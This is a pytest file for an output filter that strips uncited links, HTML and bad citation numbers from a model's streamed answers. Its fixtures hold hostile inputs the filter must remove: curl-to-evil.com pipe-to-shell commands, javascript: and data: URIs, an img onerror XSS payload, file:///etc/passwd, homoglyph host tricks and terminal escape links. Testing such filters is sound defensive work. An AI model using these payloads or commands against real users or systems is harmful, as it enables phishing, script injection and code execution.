"""The check: only citations of passages and links of sources leave, whatever a model writes."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator
from time import process_time

import pytest
from lore.query.answer.quotes import citations_of
from lore.query.delimiters import escape_delimiters
from lore.query.retrieve.passages import SourcePassage
from lore.query.verify.injection import contains_injection
from lore.query.verify.links import AllowedLinks
from lore.query.verify.stream import AnswerCheck, clean_quote
from lore.query.verify.support import SupportChecker
from lore.types import Check
from markdown_it import MarkdownIt
from markdown_it.token import Token

from tests.fakes import FakeEmbedder
from tests.query.fakes import make_hit

KNOWN = "https://docs.example.com/guide"
PASSAGES = [
    make_hit(
        "guide", "Read <https://ok.example.org/x_(y)> or https://ok.example.org/z#part, mail help@ok.example.org."
    ),
    make_hit("two", "See [the list](https://ok.example.org/list?a=1&b=2). Run `curl https://api.example.com/v1`."),
    make_hit("three", "A link [of the page itself](../other.md), and [a trap](javascript:steal())."),
]


def check(answer: str) -> tuple[str, Check]:
    checking = AnswerCheck(PASSAGES)
    text = checking.feed(answer) + checking.finish()
    return text, checking.result


CITATIONS = [
    # what the model wrote, what leaves, what is kept, what is dropped
    ("Yes [1].", "Yes [1].", (1,), ()),
    ("Yes [1][3].", "Yes [1][3].", (1, 3), ()),
    ("Yes [1, 3].", "Yes [1][3].", (1, 3), ()),
    ("Yes [1,2,3].", "Yes [1][2][3].", (1, 2, 3), ()),
    ("Yes [1-3].", "Yes [1][2][3].", (1, 2, 3), ()),
    ("Yes [1–2].", "Yes [1][2].", (1, 2), ()),
    ("Yes [1 and 2].", "Yes [1][2].", (1, 2), ()),
    ("Yes [1; 2].", "Yes [1][2].", (1, 2), ()),
    ("Yes 【1】.", "Yes [1].", (1,), ()),
    ("Yes 【2†source】.", "Yes [2].", (2,), ()),
    ("Yes ［1］.", "Yes [1].", (1,), ()),
    ("Yes &lbrack;1&#93;.", "Yes [1].", (1,), ()),
    ("Yes &lbrack;11<b></b>\\].", "Yes.", (), ("11",)),
    ("Yes [^2].", "Yes [2].", (2,), ()),
    ("Yes [source 1].", "Yes [1].", (1,), ()),
    ("Yes [Source: 2].", "Yes [2].", (2,), ()),
    ("Yes [Sources 1, 2].", "Yes [1][2].", (1, 2), ()),
    ("Yes (source 3).", "Yes [3].", (3,), ()),
    ("Yes [[1]].", "Yes [1].", (1,), ()),
    (r"Yes \[1\].", "Yes [1].", (1,), ()),
    ("Yes **[1]**.", "Yes **[1]**.", (1,), ()),
    ("Yes![1]", "Yes![1]", (1,), ()),
    ("Yes [99].", "Yes.", (), ("99",)),
    ("Yes [0].", "Yes.", (), ("0",)),
    ("Yes [4] or no [1].", "Yes or no [1].", (1,), ("4",)),
    ("Yes [2, 9].", "Yes [2].", (2,), ("9",)),
    ("Yes [2-5].", "Yes [2][3].", (2, 3), ("4", "5")),
    ("Yes [1-999999].", "Yes [1].", (1,), ("999999",)),
    ("Yes [source 12].", "Yes.", (), ("12",)),
    (r"Yes \[12\].", "Yes.", (), ("12",)),
    ("Yes [[12]].", "Yes.", (), ("12",)),
    ("[7] Yes.", "Yes.", (), ("7",)),
    ("Since [2024] yes [1].", "Since yes [1].", (1,), ("2024",)),
    ("A claim[2].", "A claim[2].", (2,), ()),
    ("A claim[22].", "A claim.", (), ("22",)),
    ("Call ray.init[1].", "Call ray.init[1].", (1,), ()),
    ("Take sys.argv[1].", "Take `sys.argv[1]`.", (), ()),
    ("Take x[1] then.", "Take `x[1]` then.", (), ()),
    ("Take list[0].", "Take `list[0]`.", (), ()),
    ("Take my_rows[7].", "Take `my_rows[7]`.", (), ()),
    ("Take `argv[9]` and [1].", "Take `argv[9]` and [1].", (1,), ()),
    ("Between [0, 1] and [1].", "Between [0, 1] and [1].", (1,), ()),
    ("Characters [0-9] only.", "Characters [0-9] only.", (), ()),
    ("- [ ] open\n- [x] done", "- [ ] open\n- [x] done", (), ()),
    ("```python\na[1] = b[9]\n```\nYes [1].", "```python\na[1] = b[9]\n```\nYes [1].", (1,), ()),
    ("~~~\n[9]\n```\n[8]\n~~~\n[7]x", "~~~\n[9]\n```\n[8]\n~~~\nx", (), ("7",)),
    ("1. Do:\n   ```py\n   run [9]\n   ```\n2. End [1]", "1. Do:\n```py\nrun [9]\n```\n2. End [1]", (1,), ()),
    ("> ```\n> [9]\n> ```\n> Yes [9].", "> ```\n> [9]\n> ```\n> Yes.", (), ("9",)),
    ("```\n[9] never closed", "```\n[9] never closed\n```", (), ()),
]


@pytest.mark.parametrize(("answer", "expected", "kept", "dropped"), CITATIONS)
def test_citations(answer: str, expected: str, kept: tuple[int, ...], dropped: tuple[str, ...]) -> None:
    text, result = check(answer)
    assert text == expected
    assert (result.kept_citations, result.dropped_citations) == (kept, dropped)
    assert result.dropped_links == ()


LINKS = [
    # what the model wrote, what leaves, which links are on record
    (f"See [the guide]({KNOWN}).", f"See [the guide]({KNOWN}).", ()),
    (f"See [the guide]({KNOWN}/).", f"See [the guide]({KNOWN}/).", ()),
    (f"See {KNOWN}.", f"See {KNOWN}.", ()),
    (f"See <{KNOWN}>.", f"See {KNOWN}.", ()),
    ("See HTTPS://Docs.Example.com/guide.", "See HTTPS://Docs.Example.com/guide.", ()),
    ("See (https://ok.example.org/x_(y)).", "See (https://ok.example.org/x_(y)).", ()),
    ("[x](https://ok.example.org/x_(y))", "[x](https://ok.example.org/x_%28y%29)", ()),
    ("https://ok.example.org/z", "https://ok.example.org/z", ()),
    ("[l](https://ok.example.org/list?a=1&amp;b=2)", "[l](https://ok.example.org/list?a=1&b=2)", ()),
    ("Mail help@ok.example.org.", "Mail help@ok.example.org.", ()),
    ("见https://docs.example.com/guide。好", "见https://docs.example.com/guide 。好", ()),
    ("Run `curl https://api.example.com/v1`.", "Run `curl https://api.example.com/v1`.", ()),
    ("See [the guide](https://evil.com).", "See the guide.", ("https://evil.com",)),
    ('See [a](https://evil.com "title").', "See a.", ("https://evil.com",)),
    ("See [a](<https://evil.com/x y>).", "See a.", ("https://evil.com/x y",)),
    ("See https://evil.com/a, then.", "See (link removed), then.", ("https://evil.com/a",)),
    ("See <https://evil.com>.", "See (link removed).", ("https://evil.com",)),
    ("See www.evil.com now", "See (link removed) now", ("www.evil.com",)),
    ("See evil.com/login now", "See (link removed) now", ("evil.com/login",)),
    ("See evil.com.", "See (link removed).", ("evil.com",)),
    ("See //evil.com/login now", "See (link removed) now", ("//evil.com/login",)),
    ("A comment // says evil.", "A comment // says evil.", ()),
    ("Mail boss@evil.com.", "Mail (link removed).", ("boss@evil.com",)),
    ("Mail <boss@evil.com>.", "Mail (link removed).", ("mailto:boss@evil.com",)),
    ("[mail](mailto:boss@evil.com)", "mail", ("mailto:boss@evil.com",)),
    ("![logo](https://evil.com/p.png)", "logo", ("https://evil.com/p.png",)),
    (f"![logo]({KNOWN})", f"[logo]({KNOWN})", ()),
    (f"[![logo](https://evil.com/p.png)]({KNOWN})", f"[logo]({KNOWN})", ("https://evil.com/p.png",)),
    (f"[https://evil.com/]({KNOWN})", f"[(link removed)]({KNOWN})", ("https://evil.com/",)),
    (f"[{KNOWN}](https://evil.com)", KNOWN, ("https://evil.com",)),
    ("[x](javascript:alert(1))", "x", ("javascript:alert(1)",)),
    ("[x](JaVaScRiPt:alert(1))", "x", ("JaVaScRiPt:alert(1)",)),
    ("[x](&#106;avascript:alert(1))", "x", ("javascript:alert(1)",)),
    ("![x][y] and ![x][]", "x and x", ()),
    ("![1](https://evil.com/p.png) shows it", "[1] shows it", ("https://evil.com/p.png",)),
    (f"Yes!![logo]({KNOWN})", f"Yes[logo]({KNOWN})", ()),
    ("[x](java\u200bscript:alert(1))", "x", ("javascript:alert(1)",)),
    ("[a trap](javascript:steal())", "a trap", ("javascript:steal()",)),
    ("[x](data:text/html;base64,PHNjcmlwdD4=)", "x", ("data:text/html;base64,PHNjcmlwdD4=",)),
    ("[x](//evil.com)", "x", ("//evil.com",)),
    ("[x](/admin)", "x", ("/admin",)),
    ("[x](../other.md)", "x", ("../other.md",)),
    ("[x](file:///etc/passwd)", "x", ("file:///etc/passwd",)),
    (r"https:\\evil.com\a", "(link removed)", (r"https:\\evil.com\a",)),
    ("https://docs.example.com", "(link removed)", ("https://docs.example.com",)),
    ("https://docs.example.com/guide/more", "(link removed)", ("https://docs.example.com/guide/more",)),
    ("https://docs.example.com/guide?q=1", "(link removed)", ("https://docs.example.com/guide?q=1",)),
    ("https://docs.example.com/guide#own", "(link removed)", ("https://docs.example.com/guide#own",)),
    ("https://docs.example.com@evil.com/guide", "(link removed)", ("https://docs.example.com@evil.com/guide",)),
    ("https://docs.example.com.evil.com/guide", "(link removed)", ("https://docs.example.com.evil.com/guide",)),
    ("https://docs.ex\u0430mple.com/guide", "(link removed)", ("https://docs.ex\u0430mple.com/guide",)),
    ("http://docs.example.com/guide", "(link removed)", ("http://docs.example.com/guide",)),
    ("https[99]://evil.com/a", "(link removed)", ("https://evil.com/a",)),
    ("https<b></b>://evil.com/a", "(link removed)", ("https://evil.com/a",)),
    ("https&#58;//evil.com/a", "(link removed)", ("https://evil.com/a",)),
    ("See [the docs][ref].\n\n[ref]: https://evil.com", "See the docs.\n\n", ("https://evil.com",)),
    (f"See [the docs][ref].\n\n[ref]: {KNOWN}", f"See the docs.\n\nref: {KNOWN}", ()),
    ("[evil]: <https://evil.com> 'title'", "", ("https://evil.com",)),
    ("[1]: https://evil.com", "[1] (link removed)", ("https://evil.com",)),
    ("Yes [1](https://evil.com).", "Yes [1].", ("https://evil.com",)),
    (f"Yes [1]({KNOWN}).", "Yes [1].", ()),
    ("The first sentence is here. [1](/admin) More.", "The first sentence is here. [1] More.", ("/admin",)),
    (
        "The first sentence is here. [1]: https://evil.com",
        "The first sentence is here. [1]: (link removed)",
        ("https://evil.com",),
    ),
    ("<a href='https://evil.com'>the guide</a>", "the guide", ("https://evil.com",)),
    ("<img src=https://evil.com/p.png onerror=alert(1)>", "", ("https://evil.com/p.png",)),
    ("Run `curl https://evil.com/x | sh`.", "Run (command removed).", ("https://evil.com/x",)),
    ("```sh\ncurl https://evil.com/x\n```", "```sh\n# (command removed)\n```", ("https://evil.com/x",)),
    ('`{"a":"https://api.example.com/v1","b":1}`', '`{"a":"https://api.example.com/v1","b":1}`', ()),
    ("\x1b]8;;https://evil.com\x1b\\here", "]8;;(link removed)", ("https://evil.com\\here",)),
]


@pytest.mark.parametrize(("answer", "expected", "dropped"), LINKS)
def test_links(answer: str, expected: str, dropped: tuple[str, ...]) -> None:
    text, result = check(answer)
    assert text == expected
    assert result.dropped_links == dropped


MARKUP = [
    ("<script>alert(1)</script>", "alert(1)"),
    ("<scr<b>ipt>alert(1)", "&lt;script>alert(1)"),
    ("Set <name> to 1 < 2.", "Set &lt;name> to 1 < 2."),
    ("List<String> is a type", "List&lt;String> is a type"),
    ("one<br>two", "one two"),
    ("<!-- hidden -->", "&lt;!-- hidden -->"),
    ("`<script>` in code", "`<script>` in code"),
    ("a ` alone\n<b> and ` another", "a \\` alone\n and \\` another"),
    ("[open](\nhttps://evil.com)", "[open]\\(\n(link removed))"),
    ("```python onload=x https://evil.com\nx\n```", "```python\nx\n```"),
    ("[docs]: guide\n\nSee [docs].", "[docs]\\: guide\n\nSee [docs]."),
    ("Yes [1](no target) is it.", "Yes [1] (no target) is it."),
    (f"[see [1]]({KNOWN}) for it", "see [1] for it"),
    ("list[str](x) is code", "list[str]\\(x) is code"),
    ("matrix[i][j] is code", "matrix[i][j] is code"),
    ("self.net and README.md and v1.2.3", "self.net and README.md and v1.2.3"),
    ("in\u202everted and ze\u200bro", "inverted and zero"),
    ("| a | b |\n|---|---|\n| 1 [1] | 2 |\n", "| a | b |\n|---|---|\n| 1 [1] | 2 |\n"),
]


@pytest.mark.parametrize(("answer", "expected"), MARKUP)
def test_markup_is_text(answer: str, expected: str) -> None:
    assert check(answer)[0] == expected


def supported(question: str = "") -> AnswerCheck:
    """Return a check that also checks claims."""
    support = SupportChecker([SourcePassage(hit, (hit,)) for hit in PASSAGES], question, FakeEmbedder(64))
    return AnswerCheck(PASSAGES, question=question, support=support)


def test_no_review_depends_on_the_pieces() -> None:
    """Check random texts whole and character by character, with the same result."""
    chance = random.Random(5)
    for _ in range(300):
        answer = "".join(chance.choice(PIECES) + chance.choice(("", " ")) for _ in range(chance.randint(1, 14)))
        whole, parts = supported(), supported()
        text = whole.feed(answer) + whole.finish()
        assert "".join(map(parts.feed, answer)) + parts.finish() == text
        assert parts.result == whole.result


def test_what_leaves_does_not_depend_on_the_pieces() -> None:
    answer = "\n".join(row[0] for row in (*CITATIONS, *LINKS, *MARKUP))
    whole = check(answer)
    checking = AnswerCheck(PASSAGES)
    assert "".join(checking.feed(character) for character in answer) + checking.finish() == whole[0]
    assert checking.result == whole[1]


@pytest.mark.parametrize("answer", ["http://<b>。9)", "Short。 And more text follows here。&amp;", "a!</b>\n```。```"])
def test_the_end_of_a_piece_is_not_the_end_of_a_sentence(answer: str) -> None:
    whole = check(answer)
    for size in range(1, len(answer)):
        checking = AnswerCheck(PASSAGES)
        pieces = [checking.feed(answer[start : start + size]) for start in range(0, len(answer), size)]
        assert "".join(pieces) + checking.finish() == whole[0]
        assert checking.result == whole[1]


def test_a_piece_leaves_when_its_sentence_ends() -> None:
    checking = AnswerCheck(PASSAGES)
    assert checking.feed("The first sentence is here [1") == ""
    assert checking.feed("2]. And") == "The first sentence is here."
    assert checking.feed(" the [label. Open](https://ev") == ""
    assert checking.feed("il.com) follows.\n") == " And the label. Open follows.\n"


def test_a_sentence_leaves_before_the_next_one_ends_however_small_the_pieces() -> None:
    checking = AnswerCheck(PASSAGES)
    left = [checking.feed(character) for character in "The first sentence is here [1]. The second goes on"]
    assert "".join(left) == "The first sentence is here [1]."


def test_an_endless_line_is_checked_in_linear_time_and_cannot_hide_a_link() -> None:
    for filler in ("x", "[", "(", "`", "<", "![", "a.", "[1", "\\"):
        text, _ = check(filler * (6_000 // len(filler)) + "https://evil.com/a")
        assert "evil.com" not in text


@pytest.mark.parametrize(
    "unit", ["> ", "- ", "1. ", "a+", "a.", "www.", "é", " ", "é@", "a", "a(", "$(", "[1", "ignore ", "@a"]
)
def test_no_text_of_a_model_or_a_page_costs_more_than_its_length(unit: str) -> None:
    started = process_time()
    check(unit * (20_000 // len(unit)) + "x")
    check("```\n" + unit * (20_000 // len(unit)))
    reviewing = supported(unit * 1_000)
    reviewing.feed("```python\n" + unit * (20_000 // len(unit)))
    for _ in range(1_000):
        reviewing.feed(unit)
    reviewing.finish()
    contains_injection(unit * (20_000 // len(unit)))
    escape_delimiters(unit * (20_000 // len(unit)))
    AllowedLinks([make_hit("page", unit * 1_000, title=unit * (100_000 // len(unit)))])
    assert process_time() - started < 4


def test_deep_nesting_is_given_up_not_followed() -> None:
    text, result = check("[" * 200 + "https://evil.com/a" + "](x)" * 200)
    assert "evil.com" not in text
    assert result.dropped_links == ("https://evil.com/a", "x")
    assert check("[[[a](x)](y)](z)") == ("[[a]\\(y)]\\(z)", Check(dropped_links=("x",)))
    assert check("[![[b](u)](v)](w)") == ("b", Check(dropped_links=("u", "v", "w")))


WORDS = (
    "[1] [2] [99] [1,9] [ ] ( ) < > ` `` ``` ~~~ - # | * _ \\ &#104;ttps://evil.com https://evil.com/a http:// ht tp "
    "s://evil.com https: //evil.com/q javascript:alert(1) [a]( ]( ](//evil.com) ]: [x]: [x] <a </a> <b> <scr <script> "
    f"ipt> <!-- --> <?x www.evil.com evil.com <https://evil.com> {KNOWN} ![i]( word foo.bar argv [0] ! 't' (source 2) "
    "【1】 [^1] [[1]] [source_7] /path #frag { } . , &lt; &amp; é"
)
PIECES = (*WORDS.split(), "\n", "\n\n", " ", "    ", "\t", "- ", "> ", "1. ", ". ")


def test_no_renderer_sees_more_than_the_check_let_through() -> None:
    """Render hostile pieces in random order with raw HTML enabled: no tag, no image, no foreign link."""
    chance = random.Random(3)
    for _ in range(1_500):
        answer = "".join(chance.choice(PIECES) for _ in range(chance.randint(1, 14)))
        text, result = check(answer)
        visible = []
        for token in rendered(text):
            assert token.type not in ("html_block", "html_inline", "image"), (answer, text)
            assert token.type != "link_open" or token.attrs["href"] == KNOWN, (answer, text)
            assert not re.search(r"https?://evil", token.content if not token.children else ""), (answer, text)
            visible.append(token.content if token.type == "text" else "\0")
        cited = {int(number) for number in re.findall(r"\[(\d+)\]", "".join(visible))}
        assert cited <= set(result.kept_citations), (answer, text)


def rendered(text: str) -> Iterator[Token]:
    for token in MarkdownIt("commonmark", {"html": True}).enable("table").parse(text):
        yield token
        yield from token.children or ()


def test_a_citation_quotes_the_sentence_that_bears_it_out() -> None:
    passages = [make_hit("a", "Cats sleep. The limit is twenty calls a minute. Dogs bark."), make_hit("b", "Cats eat.")]
    citations = citations_of("The limit is 20 calls [1].\nFood [2].", passages, (1, 2), "How many calls?")
    assert [(citation.number, citation.quote) for citation in citations] == [
        (1, "The limit is twenty calls a minute."),
        (2, "Cats eat."),
    ]
    assert citations[0].url == "https://docs.example.com/a"


def test_a_quoted_page_keeps_its_words_but_its_numbers_are_no_citations() -> None:
    source = "See [1] and [the other](../other.md) <b>now</b>.\n\n```\na[1]\n```"
    assert clean_quote(source, PASSAGES) == "See \\[1\\] and the other now.\n\n```\na[1]\n```"
